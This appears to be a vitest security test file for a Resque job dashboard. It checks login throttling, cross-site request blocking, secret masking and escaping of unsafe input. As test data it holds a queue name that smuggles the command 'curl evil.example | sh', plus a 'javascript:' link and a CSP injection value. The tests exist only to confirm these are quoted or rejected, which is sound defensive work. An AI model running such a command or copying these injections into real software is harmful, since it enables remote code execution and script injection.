/** What somebody may try who means harm: with a login or without, by an address, a form, a page elsewhere, or a job. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { credentials, userLine } from '../../../src/dashboard/guard/users.js';
import { MOST_STREAMS } from '../../../src/dashboard/live/hub.js';
import { dashboard } from '../../../src/dashboard/mount.js';
import type { Access } from '../../../src/dashboard/options.js';
import { createKeys } from '../../../src/resque/keys.js';
import { envelopeOf } from '../../../src/resque/record.js';
import { startDashboard } from '../../support/dashboard.js';
import { startRedis, type TestRedis } from '../../support/redis.js';

let redis: TestRedis;
beforeAll(async () => {
  redis = await startRedis();
});
beforeEach(async () => {
  await redis.client.flushAll();
});
afterAll(() => redis.stop());

const keys = createKeys('resque:');
const FORMS: readonly Readonly<Record<string, string>>[] = [{}, { accept: 'application/json' }];
const PASSWORD = 'correct horse';
const withPassword: Access = { kind: 'login', credentials: credentials(PASSWORD, undefined) };

function failed(payload: unknown, fields: object = {}) {
  return JSON.stringify({
    ...{ failed_at: '2026/11/24 10:00:00 UTC', payload, exception: 'Boom', error: 'broken', backtrace: [] },
    ...{ worker: 'h:1:mail', queue: 'mail', ...fields },
  });
}

describe('a login', () => {
  test('that is right does not pay for wrong ones: guessing beside it stays limited', async () => {
    const users = `${await userLine('eve', 'viewer', 'eve knows hers')}\n${await userLine('ada', 'admin', 'a secret one')}`;
    const served = await startDashboard(redis, {
      access: { kind: 'login', credentials: credentials(undefined, users) },
    });
    const seen: number[] = [];
    for (let i = 0; i < 8; i++) {
      const isOwn = i % 4 === 3;
      const form = isOwn ? { name: 'eve', password: 'eve knows hers' } : { name: 'ada', password: `guess ${i}` };
      seen.push((await served.post('/login', form)).status);
    }
    expect(seen).toEqual([403, 403, 403, 303, 403, 403, 429, 429]);
  });

  test.each(['queue?name=☃', 'queue?name=\u0000', 'queue?\u0085', '?\u007f'])('never fails for %j', async (to) => {
    const served = await startDashboard(redis, { access: withPassword });
    const response = await served.post('/login', { password: PASSWORD, to });
    expect(response.status).toBe(303);
    expect(response.headers.get('location')).toBe('./');
  });
});

describe('a page of another site', () => {
  test.each([
    ['cross-site', 'no-cors', 403],
    ['same-site', 'cors', 403],
    ['cross-site', 'navigate', 200],
    ['same-origin', 'cors', 200],
    ['none', 'navigate', 200],
  ])('%s, %s: %i, so that it cannot measure a search either', async (site, mode, status) => {
    const served = await startDashboard(redis);
    const headers = { 'sec-fetch-site': site, 'sec-fetch-mode': mode };
    for (const method of ['GET', 'HEAD'])
      expect((await served.ask('/failed?text=secret', { method, headers })).status).toBe(status);
  });
});

test('HEAD of the events holds no stream', async () => {
  const served = await startDashboard(redis);
  for (let i = 0; i < MOST_STREAMS + 1; i++) expect((await served.ask('/events', { method: 'HEAD' })).status).toBe(405);
  const response = await served.ask('/events');
  expect(response.status).toBe(200);
  await response.body?.cancel();
});

test('a name of every object is no value of a filter, and what one asks changes nothing for others', async () => {
  await redis.client.rPush('resque:failed', failed({ class: 'A', args: [] }));
  const served = await startDashboard(redis);
  for (const value of ['constructor', 'toString', '__proto__'])
    expect(await served.json(`/failed?retried=${value}`)).toMatchObject({ matching: 1 });
  expect(await served.json('/failed')).toMatchObject({ matching: 1 });
});

test('a class that is no text in Unicode leads somewhere', async () => {
  await redis.client.rPush('resque:failed', failed({ class: 'A\ud800', args: [] }));
  const served = await startDashboard(redis, { links: [{ name: 'Look', href: 'https://x.example/?q={class}' }] });
  const { failed: entries } = (await served.json('/failed?view=list')) as { failed: { n: number; id: string }[] };
  const response = await served.ask(`/failure?n=${entries[0].n}&id=${entries[0].id}`);
  expect(response.status).toBe(200);
  expect(await response.text()).toContain('https://x.example/?q=A%EF%BF%BD');
});

test('a job that is no JSON shows none of its secrets in the reason', async () => {
  await redis.client.sAdd('resque:queues', 'mail');
  await redis.client.rPush('resque:queue:mail', '{"class":"A","args":["x",{"password":hunter22}]}');
  const served = await startDashboard(redis);
  for (const headers of FORMS)
    for (const path of ['/', '/queue?name=mail'])
      expect(await (await served.ask(path, { headers })).text(), path).not.toContain('hunter22');
});

test('the error of a retry shows no argument that is masked', async () => {
  const payload = Buffer.from(JSON.stringify({ class: 'Reset', args: ['ada', 'opensesame'] }));
  const past = { at: '2026-11-24T10:00:00.000Z', error: 'Error: no user has the code opensesame', worker: 'w' };
  const state = {
    id: 'r1',
    attempt: 2,
    postponed: 0,
    firstFailedAt: past.at,
    errors: [{ ...past, worker: 'w' }],
  };
  const value = envelopeOf({ queue: 'mail', payload, strict: true }, state);
  await redis.client.sAdd(keys.queues, 'mail');
  await redis.client.zAdd(keys.retries, { score: Date.now() + 60_000, value: 'mail' });
  await redis.client.zAdd(keys.retriesOf('mail'), { score: Date.now() + 60_000, value });
  const served = await startDashboard(redis, { redact: { args: { Reset: [1] } } });
  await expect.poll(async () => await (await served.ask('/retries')).text()).toContain('no user has the code');
  expect(await (await served.ask('/retries')).text()).not.toContain('opensesame');
});

test('a command to copy holds the name of a queue as one word', async () => {
  const name = 'x; curl evil.example | sh';
  await redis.client.sAdd('resque:queues', name);
  const served = await startDashboard(redis);
  const page = `/queue?name=${encodeURIComponent(name)}`;
  expect(await (await served.ask(page)).text()).toContain(`tsworker queues peek &#39;${name}&#39;`);
  for (const [action, command] of [
    ['removequeue', 'remove'],
    ['move', 'move'],
  ])
    expect(await (await served.post(`/${action}`, { name })).text()).toContain(
      `tsworker queues ${command} &#39;${name}&#39;`,
    );
});

test('retries are taken of a queue that has some, and of no key that a form makes up', async () => {
  const served = await startDashboard(redis);
  await redis.client.zAdd('resque:tsworker:retries:made-up', { score: 1, value: 'a' });
  const response = await served.post('/removeretries', { retry: 'abcdef made-up', agreed: 'yes' });
  expect(response.status).toBe(409);
});

test('an action that Redis does not let happen is in the audit too', async () => {
  const served = await startDashboard(redis);
  await redis.client.set('resque:tsworker:operations', 'of another program');
  const response = await served.post('/cancel', { id: '0abcdefgh' });
  expect(response.status).toBe(503);
  expect(served.log.at(-1)?.fields.audit).toMatchObject({ action: 'cancel', refused: expect.any(String) });
});

test('records of operations that somebody else wrote break no page', async () => {
  const record = { id: '0abcdefgh', kind: 'retry', title: 'all', user: 'ada', filter: {}, agreed: 1, done: 1 };
  const whole = { ...record, left: [], seen: 1, of: 1, state: 'done', startedAt: 1000, endedAt: 2000 };
  const served = await startDashboard(redis);
  const odd: unknown[] = [
    {},
    [],
    1e99,
    null,
    'x',
    { isEscaped: true, toString: 'x' },
    [{ why: {}, jobs: 'x' }],
    { since: 1e99 },
  ];
  for (const key of Object.keys(whole))
    for (const value of odd) {
      await redis.client.hSet('resque:tsworker:operations', whole.id, JSON.stringify({ ...whole, [key]: value }));
      for (const headers of FORMS)
        for (const path of ['/operations', '/operation?id=0abcdefgh']) {
          const { status } = await served.ask(`${path}`, { headers });
          expect([200, 404], `${path} ${key} ${JSON.stringify(value)}`).toContain(status);
        }
      await new Promise((resolve) => setImmediate(resolve));
    }
});

describe('a program that mounts it', () => {
  test.each([
    ['an error', new Error('ERR the database of users: postgres://ada:pw@db')],
    ['a text', 'no session'],
    ['a response', new Response('redirect', { status: 302, headers: { location: '/login' } })],
    ['nothing', undefined],
  ])('and whose authorize throws %s lets nobody in', async (_, thrown) => {
    const served = await startDashboard(redis, {
      host: undefined,
      access: {
        kind: 'mounted',
        authorize: () => {
          throw thrown;
        },
      },
    });
    const response = await served.ask('/');
    expect(response.status).toBe(500);
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(await response.text()).not.toContain('postgres');
    expect(served.log.at(-1)?.level).toBe('error');
  });

  test.each([
    [{ links: [{ name: 'x', href: 'javascript:alert(1)' }] }, 'links'],
    [{ links: [{ name: 'x', href: 'https://{class}/' }] }, 'links'],
    [{ frameAncestors: ['*; script-src *'] }, 'frameAncestors'],
    [{ redact: { args: { A: 1 } } }, 'redact'],
    [{ redact: { keys: 'pin' } }, 'redact'],
  ])('is told that %j is wrong', (options, what) => {
    const mount = () => dashboard({ authorize: 'open', uri: redis.uri, ...(options as object) });
    expect(mount).toThrow(expect.objectContaining({ code: 'USAGE' }));
    expect(mount).toThrow(what);
  });
});
